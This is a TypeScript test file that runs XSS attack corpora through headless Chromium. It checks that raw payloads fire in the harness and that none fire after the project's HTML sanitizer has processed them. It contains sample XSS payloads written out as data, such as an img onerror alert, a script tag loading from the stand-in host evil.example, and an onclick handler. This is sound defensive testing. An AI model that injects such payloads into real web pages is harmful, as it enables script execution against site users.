// The attack corpora in a real browser: first proof that the harness sees attacks (raw payloads
// fire), then proof that nothing fires once a payload has been through the sanitizer.
//
// Runs the project's own corpus (test/corpus/xss-vectors.json) always, and the shared corpora too
// when they are beside the repository (test/support/corpus.ts).

import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { renderArticle } from "../../src/content/render";
import { sanitizeArticleHtml, UnsafeHtmlError } from "../../src/content/sanitize";
import { type CorpusVector, loadOwnCorpus, loadSharedCorpus, type OwnVector, ownVectors, sharedVectors } from "../support/corpus";
import { launchXssHarness, loadVectors, mapConcurrent, type VectorResult, type XssHarness } from "../support/xss-harness";

const own = await loadOwnCorpus();
const shared = await loadSharedCorpus();
const corpusVectors: CorpusVector[] = [...ownVectors(own), ...sharedVectors(shared)];

// Parallel pages in one browser context (test/support/xss-harness.ts). Measured on 72 vectors: 12 at
// a time took 15.3 s against 18.9 s for 6, for the same CPU time; 8 keeps a loaded CI machine's
// pages well inside the harness's timeouts.
const CONCURRENCY = 8;

let harness: XssHarness;

beforeAll(async () => {
  harness = await launchXssHarness({ settleMs: 200 });
}, 60_000);

afterAll(async () => {
  await harness?.close();
});

/** What a raw load showed: script ran, or only a request (a resource, a frame, a navigation) was made. */
function firedAs(result: VectorResult): OwnVector["fires"] {
  if (result.evidence.some((line) => line.startsWith("called ") || line.includes(" dialog: "))) return "script";
  return result.evidence.some((line) => line.startsWith("request for ")) ? "request" : null;
}

/**
 * The raw proof's sample of the own corpus: the first two vectors of each technique for each way it
 * fires. Each is a different route to script (a handler, a script element, a click on a URL, a form
 * submission, a frame, a parser differential …), which is what the proof is about; the remaining
 * vectors of a technique repeat a route already shown.
 */
function ownRawSample(vectors: readonly OwnVector[]): OwnVector[] {
  const taken = new Map<string, number>();
  return vectors.filter((vector) => {
    if (vector.fires === null) return false;
    const key = `${vector.technique}\u0000${vector.fires}`;
    const count = taken.get(key) ?? 0;
    taken.set(key, count + 1);
    return count < 2;
  });
}

describe("attack corpora in headless Chromium", () => {
  test("the harness sees each kind of signal, and nothing on a plain page", async () => {
    const [hooked, request, navigation, interaction, plain] = await mapConcurrent(
      [
        "<img src=x onerror=alert(1)>",
        '<script src="https://evil.example/x.js"></script>',
        '<meta http-equiv="refresh" content="0;url=/next">',
        '<button onclick="confirm(1)">b</button>',
        '<p>plain <a href="https://example.com">link</a> <img src="https://example.com/a.png"></p>',
      ],
      CONCURRENCY,
      (html) => harness.loadVector(html),
    );
    expect(hooked?.evidence).toContain("called alert(1)");
    expect(request?.evidence.some((line) => line.startsWith("request for script https://evil.example/x.js"))).toBe(true);
    expect(navigation?.evidence.some((line) => /^request for document http:\/\/v\d+\.xss-harness\.invalid\/next$/.test(line))).toBe(true);
    expect(interaction?.evidence).toContain("called confirm(1)");
    expect(plain).toMatchObject({ executed: false, evidence: [], leftovers: [] });
    expect(plain?.requests).toEqual(["image https://example.com/a.png"]);
  }, 60_000);

  test("raw payloads fire in the harness, so a zero after sanitizing means something", async () => {
    // This proves the harness can see attacks; it tests nothing of Spyglass. So it loads a sample,
    // chosen by rule, not by outcome (all 290 raw shared payloads took 176 s of a CI run):
    //   - of the own corpus, two vectors per technique and way of firing, each of which must fire
    //     exactly as the corpus records (test/corpus/README.md);
    //   - of the shared corpora, every H5SC vector with a trigger (the only ones that exercise the
    //     trigger path and H5SC's pass() signal) and every fourth of the others.
    const ownSample = ownRawSample(own);
    expect(new Set(ownSample.map((vector) => vector.technique)).size).toBeGreaterThanOrEqual(10);
    const triggered = shared?.h5sc.filter((item) => item.trigger !== null) ?? [];
    const untriggered: CorpusVector[] = shared
      ? [
          ...shared.dompurify
            .filter((fixture) => fixture.payload.includes("alert"))
            .map((f) => ({ label: f.title ?? f.payload, html: f.payload, trigger: null })),
          ...shared.h5sc.filter((item) => item.trigger === null).map((item) => ({ label: item.name, html: item.data, trigger: null })),
        ].filter((_, index) => index % 4 === 0)
      : [];
    const raw: CorpusVector[] = [
      ...ownVectors(ownSample),
      ...triggered.map((item) => ({ label: item.name, html: item.data, trigger: item.trigger })),
      ...untriggered,
    ];
    const started = performance.now();
    // Some payloads run only after the generic click has started a navigation (a form's javascript:
    // action): on a loaded machine that can come after the settle time (a CI run once missed own #73,
    // a button's formaction). An own vector that did not fire as the corpus records is looked at
    // again, alone, like an unobserved page, before it counts as a mismatch.
    const results = await loadVectors(
      harness,
      raw,
      CONCURRENCY,
      (result, index) => index < ownSample.length && firedAs(result) !== ownSample[index]!.fires,
    );
    const ownResults = results.slice(0, ownSample.length);
    const sharedTriggered = results.slice(ownSample.length, ownSample.length + triggered.length);
    const sharedOthers = results.slice(ownSample.length + triggered.length);
    const fired = (list: VectorResult[]): number => list.filter((result) => result.executed).length;
    console.log(
      `raw payloads: own ${fired(ownResults)} of ${ownSample.length}; ` +
        (shared
          ? `shared with a trigger ${fired(sharedTriggered)} of ${triggered.length}, others ${fired(sharedOthers)} of ${untriggered.length}`
          : "no shared corpora") +
        ` (${Math.round(performance.now() - started)} ms)`,
    );

    const mismatches = ownSample.flatMap((vector, index) => {
      const result = ownResults[index]!;
      const seen = firedAs(result);
      return seen === vector.fires
        ? []
        : [`own #${vector.id} ${vector.name}: recorded ${vector.fires}, saw ${seen} (${result.evidence.join("; ")})`];
    });
    expect(mismatches).toEqual([]);
    if (shared) {
      // Measured on the sample: 4 of the 22 with a trigger (one by pass()), 22 of the 67 others;
      // the rest target other browsers or need a gesture the generic interaction does not make.
      expect(fired(sharedTriggered)).toBeGreaterThanOrEqual(3);
      expect(fired(sharedOthers)).toBeGreaterThanOrEqual(18);
    }
  }, 300_000);

  test("every corpus payload, as an article body or as raw HTML, runs nothing once sanitized", async () => {
    // Every corpus vector as an article body (the markdown pipeline) is loaded end to end, through
    // the compiled server's tools and public API, by test/e2e/xss-publish.test.ts; here the browser
    // gets the other output, the sanitizer on raw HTML. Both outputs must be fixed points of the
    // sanitizer.
    const coveredEndToEnd = new Set<string>();
    const sanitized = new Map<string, CorpusVector & { sources: string[] }>();
    const unstable: string[] = [];
    let refused = 0;
    const add = (vector: CorpusVector, via: string, produce: () => string, endToEnd: boolean): void => {
      let html: string;
      try {
        html = produce();
      } catch (error) {
        // Refusing a body is a safe outcome; anything else thrown is a bug.
        if (!(error instanceof UnsafeHtmlError)) throw error;
        refused++;
        return;
      }
      if (sanitizeArticleHtml(html) !== html) unstable.push(`${via} ${vector.label}`);
      const key = `${vector.trigger ?? ""}\u0000${html}`;
      if (endToEnd) {
        coveredEndToEnd.add(key);
        return;
      }
      const seen = sanitized.get(key);
      if (seen) seen.sources.push(`${via} ${vector.label}`);
      else sanitized.set(key, { label: vector.label, html, trigger: vector.trigger, sources: [`${via} ${vector.label}`] });
    };
    for (const vector of corpusVectors) add(vector, "markdown", () => renderArticle({ title: "t", markdown: vector.html }), true);
    for (const vector of corpusVectors) add(vector, "html", () => sanitizeArticleHtml(vector.html), false);
    expect(unstable).toEqual([]);

    // Identical output under an identical trigger behaves identically: load each distinct one once.
    const distinct = [...sanitized.entries()].filter(([key]) => !coveredEndToEnd.has(key)).map(([, vector]) => vector);
    // Measured: 37 from the own corpus alone, 84 from the shared corpora; far fewer means the
    // pipeline collapsed its outputs (everything empty, everything refused).
    expect(distinct.length).toBeGreaterThan(shared ? 50 : 30);
    const started = performance.now();
    const results = await loadVectors(harness, distinct, CONCURRENCY);
    const failures = results.flatMap((result, index) => {
      const vector = distinct[index];
      if (!vector || (!result.executed && result.leftovers.length === 0)) return [];
      return [{ from: vector.sources, html: vector.html, evidence: result.evidence, leftovers: result.leftovers }];
    });
    console.log(
      `sanitized: ${corpusVectors.length} vectors × 2 pipelines → ${distinct.length} distinct outputs not loaded end to end, ${refused} refused, ` +
        `${failures.length} unsafe (${Math.round(performance.now() - started)} ms)`,
    );
    expect(failures).toEqual([]);
  }, 300_000);
});
